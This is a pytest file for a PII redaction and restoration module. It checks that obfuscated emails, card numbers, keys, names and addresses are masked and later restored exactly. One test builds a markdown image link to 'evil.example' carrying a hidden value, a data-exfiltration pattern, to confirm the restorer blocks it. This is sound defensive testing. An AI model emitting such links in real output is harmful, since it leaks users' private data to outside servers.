"""Personal data stays here: found in unusual places, replaced the same way every time, restored exactly."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from haversack.core.errors import UserError
from haversack.share import _personal
from haversack.share.redaction import AnswerRestorer, Restorer, Vault, redact

MAIL = "jane.doe@example.com"
CARD = "4111 1111 1111 1111"
IBAN = "DE89 3704 0044 0532 0130 00"


def asking(content: Any, **more: Any) -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": content}], **more}


def leaves(body: dict[str, Any], private: tuple[str, ...] = ()) -> str:
    return json.dumps(redact(body, private).body, ensure_ascii=False)


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        (f"Write to {MAIL} today", MAIL),
        ("Write to jane.doe＠example．com", "jane.doe"),
        ("Write to jane.doe (at) example [dot] com", "jane.doe"),
        ("Write to jane.doe at example dot com", "jane.doe"),
        ("Write to jane.d\u200boe@exam\u00adple.com", "example"),
        ("GET /find?mail=jane.doe%40example.com&x=1", "jane.doe"),
        ('reads {"m": "jane.doe\\u0040example.com"}', "jane.doe"),
        ("jane.doe&#64;example.com", "jane.doe"),
        ("blob " + base64.b64encode(f"mail: {MAIL} ok".encode()).decode(), "amFuZS5kb2"),
        ("hex " + f"mail {MAIL}".encode().hex(), MAIL.encode().hex()),
        (f"pay with {CARD}.", "4111"),
        (f"from {IBAN} please", "3704"),
        ("ssn 078-05-1120", "078-05-1120"),
        ("Call me on +49 (170) 123-4567", "123-4567"),
        ("call 555-123-4567 now", "555-123-4567"),
        ("reach me: 0301234567", "0301234567"),
        ("host 192.168.17.4 is down", "192.168.17.4"),
        ("host 2001:db8::ff00:42:8329 is down", "ff00:42"),
        ("mac 00:1B:44:11:3A:B7", "1B:44"),
        ("my password is hunter2!", "hunter2"),
        ("export API_KEY=abc123def", "abc123def"),
        ("use sk-proj-abcdefghij0123456789", "abcdefghij0123456789"),
        ("git clone https://joe:tok3n@git.example/x", "tok3n"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----", "MIIabc"),
        ("I was born on 3 March 1984 in Rome", "3 March 1984"),
        ("my name is Ximena Ortuño", "Ortuño"),
        ("Dear Mr. Oyelaran, thanks", "Oyelaran"),
        ("Kind regards,\nTomoko Ishida", "Ishida"),
        ("my wife Anna Karlsson is ill", "Karlsson"),
        ("I live at 221 Old Baker Street", "221 Old Baker"),
        ("wohnhaft Schillerstraße 12", "Schiller"),
        ("at 48.85837, 2.29448", "48.85837"),
        ('```python\nuser = {"first_name": "Wei", "phone": "x"}\n```', "Wei"),
        ("```py\nconnect(password='s3cr3t')\n```", "s3cr3t"),
    ],
)
def test_what_is_personal_does_not_leave_and_comes_back(text: str, secret: str) -> None:
    made = redact(asking(text))
    said = made.body["messages"][0]["content"]
    assert secret not in said and "PII_" in said
    assert made.vault.restore(said) == text


@pytest.mark.parametrize(
    "text",
    [
        "What is 12 * 17 + 4000 / 25?",
        "Janet's ducks lay 16 eggs per day. She sells 9 for $2.50 each.",
        "Compare 2024-01-05 with 2023-12-31 and version 1.2.3.",
        "def f(x): return x[1:3] + [4, 5, 6]",
        "The number 1234567890123456 is no card.",
        "Sort 100 200 300 400 500 600.",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert redact(asking(text)).body["messages"][0]["content"] == text


def test_every_place_of_a_request_is_looked_at() -> None:
    arguments = json.dumps({"to": "bob", "note": f"see {MAIL}", "deep": [{"card_number": 4111111111111111}]})
    body = {
        "model": "m",
        "user": MAIL,
        "metadata": {"who": MAIL},
        "stop": [MAIL],
        "tools": [
            {
                "type": "function",
                "function": {
                    "name": "mail_jane_doe_example_com",
                    "description": f"mails {MAIL}",
                    "parameters": {"type": "object", "properties": {MAIL: {"enum": [MAIL]}}},
                },
            }
        ],
        "tool_choice": {"type": "function", "function": {"name": "mail_jane_doe_example_com"}},
        "response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": {"title": MAIL}}},
        "messages": [
            {"role": "system", "content": f"You serve {MAIL}."},
            {"role": "user", "name": "jane-doe-example-com", "content": [{"type": "text", "text": MAIL}]},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {"id": "c1", "type": "function", "function": {"name": "f", "arguments": arguments}}
                ],
            },
            {"role": "tool", "tool_call_id": "c1", "content": json.dumps({"email": "joe(at)x", "ok": True})},
            {"role": "user", "content": "write to JANE.DOE@EXAMPLE.COM, bob, joe"},
        ],
    }
    made = redact(body)
    said = json.dumps(made.body).lower()
    for part in ("jane", "example", "4111", "bob", "joe(at)x"):
        assert part not in said, part
    names = [made.body["tools"][0]["function"]["name"], made.body["tool_choice"]["function"]["name"]]
    assert names[0] == names[1] and names[0].startswith("mail_PII_EMAIL_")
    assert made.body["messages"][0]["role"] == "system"
    call = made.body["messages"][2]["tool_calls"][0]["function"]["arguments"]
    restored = json.loads(made.vault.restore(call, inside_json=True))
    assert restored["note"] == f"see {MAIL}" and restored["deep"] == [{"card_number": "4111111111111111"}]
    assert "user" not in made.body and "metadata" not in made.body


def test_a_name_is_hidden_in_every_turn_also_alone_and_inside_identifiers() -> None:
    body = asking("What did Ada say? call ada_lovelace() or notify(lovelace)")
    body["messages"].insert(0, {"role": "user", "content": "My name is Ada Lovelace."})
    said = leaves(body).lower()
    assert "ada" not in said.replace("pii_", "") and "lovelace" not in said


def test_a_value_that_is_parted_among_parts_of_a_message_is_found() -> None:
    parts = [{"type": "text", "text": "mail jane.d"}, {"type": "text", "text": "oe@example.com now"}]
    said = leaves(asking(parts))
    assert "example" not in said and "jane" not in said


def test_the_same_conversation_gets_the_same_placeholders() -> None:
    first = asking(f"I am at {MAIL}")
    longer = {**first, "messages": [*first["messages"], {"role": "user", "content": "and joe@example.org"}]}
    assert redact(longer).body["messages"][0] == redact(first).body["messages"][0]


def test_terms_of_ones_own_are_hidden() -> None:
    assert "falcon" not in leaves(asking("Project Falcon and falcon_team"), ("Falcon",)).lower()


def test_a_placeholder_of_the_person_is_no_placeholder_of_ours() -> None:
    made = redact(asking(f"PII_EMAIL_1 is what {MAIL} becomes"))
    said = made.body["messages"][0]["content"]
    assert said == "PII_EMAIL_1 is what PII_EMAIL_2 becomes"
    assert made.vault.restore(said) == f"PII_EMAIL_1 is what {MAIL} becomes"


def test_parts_without_text_are_named() -> None:
    parts = [
        {"type": "text", "text": "look"},
        {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}},
        {"type": "file", "file": {"file_id": "f"}},
    ]
    assert redact(asking(parts)).attachments == ("file", "image_url")
    inside = "![x](data:image/png;base64," + "QUJD" * 20 + ")"
    assert "QUJD" not in leaves(asking(inside))


def test_an_answer_cannot_carry_values_to_another_server() -> None:
    vault = redact(asking(f"{MAIL} reads https://docs.example.org/a")).vault
    hidden = vault.hide("EMAIL", MAIL)
    assert MAIL not in vault.restore(f"![x](https://evil.example/?q={hidden})")
    assert MAIL in vault.restore(f"https://docs.example.org/?q={hidden} and {hidden}")
    pieces = Restorer(vault)
    said = "".join(pieces.feed(piece) for piece in f"https://evil.example/?q={hidden} x") + pieces.end()
    assert MAIL not in said


VALUES = st.lists(st.text(st.characters(codec="utf-8"), min_size=1, max_size=12), min_size=1, max_size=12)


@given(
    VALUES,
    st.lists(st.sampled_from(["a ", "PII", "PII_", "P", "_1", "0", "\n", "ü", "{}"]), max_size=20),
    st.data(),
)
def test_restoring_in_pieces_equals_restoring_the_whole(
    values: list[str], glue: list[str], data: Any
) -> None:
    vault = Vault()
    tokens = [vault.hide("EMAIL", value) for value in values]
    text = "".join(data.draw(st.sampled_from([*tokens, *(glue or [" "])])) for _ in range(12))
    whole = vault.restore(text)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    restorer = Restorer(vault)
    pieces = [restorer.feed(text[a:b]) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert "".join(pieces) + restorer.end() == whole


def test_restored_values_are_escaped_in_a_tools_arguments() -> None:
    vault = Vault()
    hidden = vault.hide("PERSON", 'O"Neil \\ co\n')
    answer = {
        "choices": [{"message": {"tool_calls": [{"function": {"arguments": f'{{"who": "{hidden}"}}'}}]}}]
    }
    made = AnswerRestorer(vault).whole(answer)
    said = json.loads(made["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
    assert said == {"who": 'O"Neil \\ co\n'}


def test_a_stream_is_restored_across_chunks_choices_and_calls() -> None:
    vault = Vault()
    hidden = vault.hide("EMAIL", MAIL)
    restorer = AnswerRestorer(vault)
    text = {0: "", 1: ""}
    arguments = ""
    deltas: list[dict[str, Any]] = []
    for piece in f"hi {hidden}":
        deltas += [{"index": index, "delta": {"content": piece}} for index in (0, 1)]
    for piece in f'{{"a": "{hidden}"}}':
        deltas.append({"index": 0, "delta": {"tool_calls": [{"index": 2, "function": {"arguments": piece}}]}})
    deltas += [{"index": index, "delta": {}, "finish_reason": "stop"} for index in (0, 1)]
    for one in deltas:
        for choice in restorer.chunk({"choices": [one]})["choices"]:
            text[choice["index"]] += choice["delta"].get("content") or ""
            for call in choice["delta"].get("tool_calls") or ():
                assert call["index"] == 2
                arguments += call["function"]["arguments"]
    assert text == {0: f"hi {MAIL}", 1: f"hi {MAIL}"}
    assert json.loads(arguments) == {"a": MAIL}


def test_escaped_underscores_and_other_cases_are_restored() -> None:
    vault = Vault()
    vault.hide("EMAIL", MAIL)
    assert vault.restore(r"PII\_EMAIL\_1 pii_email_1") == f"{MAIL} {MAIL}"


def test_hostile_depth_and_length_end_in_time() -> None:
    deep: Any = "x"
    for _ in range(80):
        deep = [deep]
    with pytest.raises(UserError):
        redact(asking("x", extra=deep))
    for text in ("a@" * 20_000, "1" * 50_000, "A" * 50_000, "{" * 2000, "Dear " * 10_000, "(at) " * 10_000):
        redact(asking(text))


def test_checksums() -> None:
    assert _personal.luhn(CARD) and not _personal.luhn("4111 1111 1111 1112")
    assert _personal.iban(IBAN) and not _personal.iban("DE89 3704 0044 0532 0130 01")
